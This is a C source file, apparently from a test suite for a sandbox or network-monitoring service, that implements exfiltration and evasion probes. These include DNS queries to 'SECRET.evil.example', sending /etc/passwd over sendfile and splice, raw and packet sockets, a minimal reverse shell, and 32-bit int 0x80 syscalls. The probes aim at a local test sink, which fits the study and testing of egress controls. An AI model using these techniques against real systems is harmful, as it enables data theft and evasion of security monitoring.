/* Evasions that carry data out, or read requests in ways of their own. */
#define _GNU_SOURCE
#include "evasion.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static void said(const struct request *r, const char *what, long result) {
    note(r, "%s: %s", what, result < 0 ? strerror(errno) : "done");
}

static void mptcp(struct request *r) {
    struct sockaddr_in to = sink(r);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, IPPROTO_MPTCP);
    if (fd < 0) {
        said(r, "MPTCP socket", fd);
        return;
    }
    int done = connect(fd, (struct sockaddr *)&to, sizeof to);
    said(r, "MPTCP connect", done);
    if (done == 0) said(r, "write", write(fd, "secret", 6));
    close(fd);
}

static void v4_mapped(struct request *r) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(r->port)};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &to.sin6_addr);
    int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
    said(r, "connect to ::ffff:127.0.0.1", connect(fd, (struct sockaddr *)&to, sizeof to));
    close(fd);
}

static void fast_open(struct request *r) {
    struct sockaddr_in to = sink(r);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    said(r, "sendto with MSG_FASTOPEN",
         sendto(fd, "secret", 6, MSG_FASTOPEN, (struct sockaddr *)&to, sizeof to));
    close(fd);
}

static unsigned short checksum(const void *data, size_t size, unsigned sum) {
    const unsigned char *bytes = data;
    for (size_t i = 0; i + 1 < size; i += 2) sum += bytes[i] << 8 | bytes[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum);
}

/* A whole frame, made by hand: IPv6, because loopback takes no injected IPv4 frame. */
static void packet(struct request *r) {
    struct {
        struct ethhdr ethernet;
        struct ip6_hdr ip;
        struct udphdr udp;
        char data[6];
    } __attribute__((packed)) frame = {.ethernet.h_proto = htons(ETH_P_IPV6), .data = "secret"};
    unsigned short length = sizeof frame.udp + sizeof frame.data;
    frame.ip.ip6_flow = htonl(6u << 28);
    frame.ip.ip6_plen = htons(length);
    frame.ip.ip6_nxt = IPPROTO_UDP;
    frame.ip.ip6_hlim = 64;
    frame.ip.ip6_src = frame.ip.ip6_dst = in6addr_loopback;
    frame.udp.source = htons(9);
    frame.udp.dest = htons(r->port);
    frame.udp.len = htons(length);
    frame.udp.check = checksum(&frame.ip.ip6_src, 32 + length, IPPROTO_UDP + length);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("lo"), .sll_halen = 6};
    pid_t child = fork();
    if (child == 0) {
        int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
        said(r, "packet socket", fd);
        said(r, "sendto", sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to));
        _exit(0);
    }
    await(r, child);
}

static void raw(struct request *r) {
    struct {
        struct udphdr udp;
        char data[6];
    } __attribute__((packed)) datagram = {.data = "secret"};
    datagram.udp.source = htons(9);
    datagram.udp.dest = htons(r->port);
    datagram.udp.len = htons(sizeof datagram);
    struct sockaddr_in to = sink(r);
    to.sin_port = 0;
    pid_t child = fork();
    if (child == 0) {
        int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
        said(r, "raw socket", fd);
        said(r, "sendto", sendto(fd, &datagram, sizeof datagram, 0, (struct sockaddr *)&to, sizeof to));
        _exit(0);
    }
    await(r, child);
}

/* Only with itself: what a guest says to its host by vsock is nobody's business here. */
static void vsock(struct request *r) {
    struct sockaddr_vm here = {.svm_family = AF_VSOCK, .svm_cid = 1, .svm_port = r->port};
    int listener = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (listener < 0 || bind(listener, (struct sockaddr *)&here, sizeof here) < 0) {
        note(r, "the kernel has no vsock loopback: %s", strerror(errno));
        close(listener);
        return;
    }
    int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    listen(listener, 1);
    int done = connect(fd, (struct sockaddr *)&here, sizeof here);
    said(r, "vsock connect", done);
    if (done == 0) close(open(r->mark, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    close(fd);
    close(listener);
}

static void udp(struct request *r) {
    struct sockaddr_in to = sink(r);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    said(r, "sendto", sendto(fd, "secret", 6, 0, (struct sockaddr *)&to, sizeof to));
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6, .sin6_port = htons(r->port), .sin6_addr = in6addr_loopback};
    int fd6 = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    said(r, "connect to ::1", connect(fd6, (struct sockaddr *)&to6, sizeof to6));
    said(r, "send", send(fd6, "secret", 6, 0));
    close(fd);
    close(fd6);
}

/* A query for `SECRET.evil.example`, to the resolver that the service always uses: the secret is the
 * last part of the mark's path, so that the helper can make the mark when it hears it. */
static void dns(struct request *r) {
    unsigned char query[300] = {0x12, 0x34, 1, 0, 0, 1};
    const char *secret = strrchr(r->mark, '/') + 1;
    size_t at = 12, length = strlen(secret);
    query[at++] = length;
    memcpy(query + at, secret, length);
    at += length;
    memcpy(query + at, "\4evil\7example\0\0\1\0\1", 18);
    struct sockaddr_in to = sink(r);
    to.sin_port = htons(r->database);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    said(r, "connect to the resolver", connect(fd, (struct sockaddr *)&to, sizeof to));
    said(r, "send", send(fd, query, at + 18, 0));
    close(fd);
}

static void send_file(struct request *r) {
    struct sockaddr_in to = sink(r);
    int ends[2], file = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    said(r, "connect", connect(fd, (struct sockaddr *)&to, sizeof to));
    said(r, "sendfile", sendfile(fd, file, NULL, 512));
    if (pipe2(ends, O_CLOEXEC) == 0) {
        splice(file, NULL, ends[1], NULL, 512, 0);
        said(r, "splice", splice(ends[0], NULL, fd, NULL, 512, 0));
        close(ends[0]);
        close(ends[1]);
    }
    close(fd);
    close(file);
}

/* The interpreter is in the process already: connects, takes commands, answers; no program starts. */
static void reverse_shell(struct request *r) {
    struct sockaddr_in to = sink(r);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int done = connect(fd, (struct sockaddr *)&to, sizeof to);
    said(r, "connect", done);
    if (done == 0) dprintf(fd, "$ whoami\n%d\n", getuid());
    close(fd);
}

/* 32-bit system calls from a 64-bit process: their arguments lie below 4 GiB. */
static long int80(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static void old_calls(struct request *r) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    struct sockaddr_in to = sink(r);
    memcpy(low, &to, sizeof to);
    long fd = int80(359, AF_INET, SOCK_STREAM, 0);
    long done = int80(362, fd, (long)low, sizeof to);
    note(r, "32-bit connect: %s", done < 0 ? strerror(-done) : "done");
    close(fd);
    char *path = low + 512, *mark = low + 1024;
    unsigned *argv = (unsigned *)(low + 2048);
    in_work(r, "payload", path, 500);
    strcpy(mark, r->mark);
    argv[0] = (unsigned long)path;
    argv[1] = (unsigned long)mark;
    pid_t child = fork();
    if (child == 0) {
        int80(11, (long)path, (long)argv, 0);
        _exit(127);
    }
    await(r, child);
    munmap(low, 4096);
}

const struct evasion flows[] = {
    {"mptcp", mptcp},
    {"v4-mapped-ipv6", v4_mapped},
    {"msg-fastopen", fast_open},
    {"af-packet", packet},
    {"vsock", vsock},
    {"int80", old_calls},
    {"in-process-reverse-shell", reverse_shell},
    {"udp-exfiltration", udp},
    {"dns-exfiltration", dns},
    {"raw-socket", raw},
    {"sendfile-splice", send_file},
    /* The head of these requests was read in that way. */
    {"splice-receive", (void (*)(struct request *))run_payload},
    {"zero-copy-receive", (void (*)(struct request *))run_payload},
    {0},
};
